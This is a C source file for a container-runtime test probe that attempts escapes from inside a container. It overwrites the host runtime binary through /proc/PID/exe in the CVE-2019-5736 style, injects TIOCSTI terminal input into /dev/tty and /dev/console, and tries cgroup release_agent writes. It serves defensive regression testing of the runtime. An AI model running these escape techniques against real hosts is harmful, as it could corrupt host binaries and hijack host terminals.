/* What a process inside a container tries against the runtime that started it
 * (attacks-runtime.test.ts builds it static and puts it into a test image):
 *
 *   runtime-probe hammer DEV INO STOPFILE
 *       Until STOPFILE exists: for every process in /proc (but itself), open
 *       /proc/PID/exe read-only, O_PATH and write-only; keep the O_PATH fds of
 *       every executable that is not the container's own and try again and
 *       again to reopen them for writing (CVE-2019-5736: wait for the runtime to
 *       exit, then write its binary). DEV:INO is the host's berthd binary.
 *       Prints "started", one line per finding and a summary line:
 *         host-berthd PID PATH         /proc/PID/exe is the host's binary file
 *         foreign PID PATH sealed=S    a process whose exe is not of the
 *                                      container's rootfs (S: the file's memfd
 *                                      seals, or -1); once a process
 *         write-open PID PATH          opened one of those for writing
 *         wrote PID PATH               and a byte written into it
 *         summary loops=N procs=N exe_opened=N foreign=N(processes) host_berthd=N
 *                 write_open=N wrote=N
 *   runtime-probe tiocsti TEXT
 *       Pushes TEXT into the input of fd 0, 1, 2, /dev/tty and /dev/console
 *       with TIOCSTI ("sti TARGET ok" or "sti TARGET <errno>"), then reads for
 *       a second what arrived on stdin ("got <escaped bytes>").
 *   runtime-probe tiocsti-only TEXT
 *       The same pushes, without reading anything back.
 *   runtime-probe cgroup OPTIONS
 *       A new user, mount and cgroup namespace, then `mount -t cgroup -o
 *       OPTIONS` on /tmp/cg and writes to release_agent, notify_on_release
 *       and pids.max (each gets back the value it holds: a write that goes
 *       through changes nothing) and a new child cgroup (removed again). One
 *       line per step: "STEP ok" or "STEP <errno>".
 *   runtime-probe fds
 *       This process's open fds (the one it lists them with left out):
 *       "fd N -> TARGET" lines.
 *   runtime-probe stat PATH...
 *       "PATH TYPE MAJOR:MINOR" (TYPE: chr, dir, reg, other or the errno).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <termios.h>
#include <unistd.h>

#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif

/* ---- hammer ------------------------------------------------------------------- */

#define KEPT_MAX 64
static struct {
  int fd;
  pid_t pid;
  char path[256];
} kept[KEPT_MAX];
static int nkept;
#define PID_BITS (1 << 22) /* pid_max's ceiling */
static unsigned char reported[PID_BITS / 8];
static long n_exe, n_foreign, n_host, n_wopen, n_wrote;

static int seen_before(dev_t dev, ino_t ino) {
  for (int i = 0; i < nkept; i++) {
    struct stat st;
    if (fstat(kept[i].fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino)
      return 1;
  }
  return 0;
}

/* Write-open through the kept O_PATH fd's magic link; one byte at the end. */
static void try_write(int path_fd, pid_t pid, const char *path) {
  char self[64];
  snprintf(self, sizeof self, "/proc/self/fd/%d", path_fd);
  int w = open(self, O_WRONLY | O_CLOEXEC);
  if (w < 0)
    return;
  n_wopen++;
  printf("write-open %d %s\n", (int)pid, path);
  struct stat st;
  if (fstat(w, &st) == 0 && pwrite(w, "", 1, st.st_size) == 1) {
    n_wrote++;
    printf("wrote %d %s\n", (int)pid, path);
  }
  close(w);
}

static int hammer(dev_t host_dev, ino_t host_ino, const char *stopfile) {
  struct stat root;
  if (stat("/", &root) < 0) {
    perror("stat /");
    return 1;
  }
  pid_t self = getpid();
  long loops = 0, procs = 0;
  printf("started\n");
  fflush(stdout);
  while (access(stopfile, F_OK) < 0) {
    loops++;
    DIR *d = opendir("/proc");
    if (!d) {
      perror("opendir /proc");
      return 1;
    }
    struct dirent *de;
    while ((de = readdir(d))) {
      char *end;
      long pid = strtol(de->d_name, &end, 10);
      if (*end || pid <= 0 || pid == self)
        continue;
      procs++;
      char exe[64], target[256] = "";
      snprintf(exe, sizeof exe, "/proc/%ld/exe", pid);
      /* the classic: a write-open straight away (ETXTBSY while it runs) */
      int w = open(exe, O_WRONLY | O_CLOEXEC);
      if (w >= 0) {
        n_wopen++;
        printf("write-open %ld %s (direct)\n", pid, exe);
        close(w);
      }
      int fd = open(exe, O_PATH | O_CLOEXEC);
      if (fd < 0)
        continue;
      n_exe++;
      ssize_t n = readlink(exe, target, sizeof target - 1);
      target[n > 0 ? n : 0] = '\0';
      struct stat st;
      if (fstat(fd, &st) < 0) {
        close(fd);
        continue;
      }
      if (st.st_dev == host_dev && st.st_ino == host_ino) {
        n_host++;
        printf("host-berthd %ld %s\n", pid, target);
      }
      /* the container's own files are on its rootfs: anything else is
       * reported (once a process) and kept (once a file) */
      if (st.st_dev == root.st_dev) {
        close(fd);
        continue;
      }
      if (pid < PID_BITS && !(reported[pid / 8] & (1 << (pid % 8)))) {
        reported[pid / 8] |= (unsigned char)(1 << (pid % 8));
        int ro = open(exe, O_RDONLY | O_CLOEXEC);
        int seals = ro >= 0 ? fcntl(ro, F_GET_SEALS) : -1;
        if (ro >= 0)
          close(ro);
        n_foreign++;
        printf("foreign %ld %s sealed=%d\n", pid, target, seals);
      }
      if (seen_before(st.st_dev, st.st_ino) || nkept >= KEPT_MAX) {
        close(fd);
        continue;
      }
      kept[nkept].fd = fd;
      kept[nkept].pid = (pid_t)pid;
      snprintf(kept[nkept].path, sizeof kept[nkept].path, "%s", target);
      nkept++;
    }
    closedir(d);
    for (int i = 0; i < nkept; i++)
      try_write(kept[i].fd, kept[i].pid, kept[i].path);
    fflush(stdout);
  }
  printf("summary loops=%ld procs=%ld exe_opened=%ld foreign=%ld host_berthd=%ld write_open=%ld wrote=%ld\n",
         loops, procs, n_exe, n_foreign, n_host, n_wopen, n_wrote);
  return 0;
}

/* ---- tiocsti ------------------------------------------------------------------ */

static void sti(const char *name, int fd, const char *text) {
  if (fd < 0) {
    printf("sti %s %s\n", name, strerror(errno));
    return;
  }
  for (const char *p = text; *p; p++)
    if (ioctl(fd, TIOCSTI, p) < 0) {
      printf("sti %s %s\n", name, strerror(errno));
      return;
    }
  printf("sti %s ok\n", name);
}

static int tiocsti(const char *text, int read_back) {
  sti("fd0", 0, text);
  sti("fd1", 1, text);
  sti("fd2", 2, text);
  int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
  sti("/dev/tty", tty, text);
  int con = open("/dev/console", O_RDWR | O_NOCTTY | O_CLOEXEC);
  sti("/dev/console", con, text);
  fflush(stdout);
  if (!read_back)
    return 0;
  /* what came back on our own input (raw, so a partial line shows too) */
  struct termios t;
  if (tcgetattr(0, &t) == 0) {
    t.c_lflag &= ~(ICANON | ECHO);
    tcsetattr(0, TCSANOW, &t);
  }
  char buf[4096];
  size_t len = 0;
  struct pollfd p = {.fd = 0, .events = POLLIN};
  while (len < sizeof buf && poll(&p, 1, 1000) > 0) {
    ssize_t n = read(0, buf + len, sizeof buf - len);
    if (n <= 0)
      break;
    len += (size_t)n;
  }
  printf("got ");
  for (size_t i = 0; i < len; i++) {
    unsigned char c = (unsigned char)buf[i];
    if (c == '\n')
      printf("\\n");
    else if (c < 32 || c > 126 || c == '\\')
      printf("\\x%02x", c);
    else
      putchar(c);
  }
  printf("\n");
  return 0;
}

/* ---- cgroup ------------------------------------------------------------------- */

static void step(const char *what, int r) { printf("%s %s\n", what, r < 0 ? strerror(errno) : "ok"); }

static int write_str(const char *path, const char *s) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0)
    return -1;
  ssize_t n = write(fd, s, strlen(s));
  int e = errno;
  close(fd);
  errno = e;
  return n < 0 ? -1 : 0;
}

/* Writes back what the file holds: a write the kernel allows shows up as
 * "ok" without changing anything (on a kernel or runtime that let it through,
 * the host's cgroups must not be changed by this test either). */
static int rewrite(const char *path) {
  char buf[4096];
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return -1;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n < 0)
    return -1;
  if (n == 0)
    buf[n++] = '\n';
  buf[n] = '\0';
  return write_str(path, buf);
}

static int cgroup(const char *opts) {
  char map[64];
  snprintf(map, sizeof map, "0 %d 1", (int)geteuid());
  int r = unshare(CLONE_NEWUSER);
  step("unshare-user", r);
  if (r == 0) {
    step("setgroups", write_str("/proc/self/setgroups", "deny"));
    step("uid_map", write_str("/proc/self/uid_map", map));
    snprintf(map, sizeof map, "0 %d 1", (int)getegid());
    step("gid_map", write_str("/proc/self/gid_map", map));
  }
  step("unshare-mnt-cgroup", unshare(CLONE_NEWNS | CLONE_NEWCGROUP));
  mkdir("/tmp/cg", 0755);
  r = mount("cgroup", "/tmp/cg", "cgroup", 0, opts);
  step("mount", r);
  if (r < 0)
    return 0;
  step("release_agent", rewrite("/tmp/cg/release_agent"));
  step("notify_on_release", rewrite("/tmp/cg/notify_on_release"));
  step("pids.max", rewrite("/tmp/cg/pids.max"));
  r = mkdir("/tmp/cg/escape-probe", 0755);
  step("mkdir", r);
  if (r == 0)
    rmdir("/tmp/cg/escape-probe");
  return 0;
}

/* ---- fds, stat ---------------------------------------------------------------- */

static int fds(void) {
  DIR *d = opendir("/proc/self/fd");
  if (!d) {
    perror("opendir /proc/self/fd");
    return 1;
  }
  int own = dirfd(d);
  struct dirent *de;
  while ((de = readdir(d))) {
    if (de->d_name[0] == '.' || atoi(de->d_name) == own)
      continue;
    char p[300], t[512];
    snprintf(p, sizeof p, "/proc/self/fd/%s", de->d_name);
    ssize_t n = readlink(p, t, sizeof t - 1);
    t[n > 0 ? n : 0] = '\0';
    printf("fd %s -> %s\n", de->d_name, t);
  }
  closedir(d);
  return 0;
}

static int stat_paths(int n, char **paths) {
  for (int i = 0; i < n; i++) {
    struct stat st;
    if (lstat(paths[i], &st) < 0) {
      printf("%s %s\n", paths[i], strerror(errno));
      continue;
    }
    const char *type = S_ISCHR(st.st_mode) ? "chr" : S_ISDIR(st.st_mode) ? "dir" : S_ISREG(st.st_mode) ? "reg" : "other";
    printf("%s %s %u:%u\n", paths[i], type, major(st.st_rdev), minor(st.st_rdev));
  }
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc >= 5 && !strcmp(argv[1], "hammer"))
    return hammer((dev_t)strtoull(argv[2], NULL, 10), (ino_t)strtoull(argv[3], NULL, 10), argv[4]);
  if (argc >= 3 && !strcmp(argv[1], "tiocsti"))
    return tiocsti(argv[2], 1);
  if (argc >= 3 && !strcmp(argv[1], "tiocsti-only"))
    return tiocsti(argv[2], 0);
  if (argc >= 3 && !strcmp(argv[1], "cgroup"))
    return cgroup(argv[2]);
  if (argc >= 2 && !strcmp(argv[1], "fds"))
    return fds();
  if (argc >= 2 && !strcmp(argv[1], "stat"))
    return stat_paths(argc - 2, argv + 2);
  fprintf(stderr, "usage: runtime-probe hammer DEV INO STOPFILE | tiocsti[-only] TEXT | cgroup OPTS | fds | stat PATH...\n");
  return 2;
}
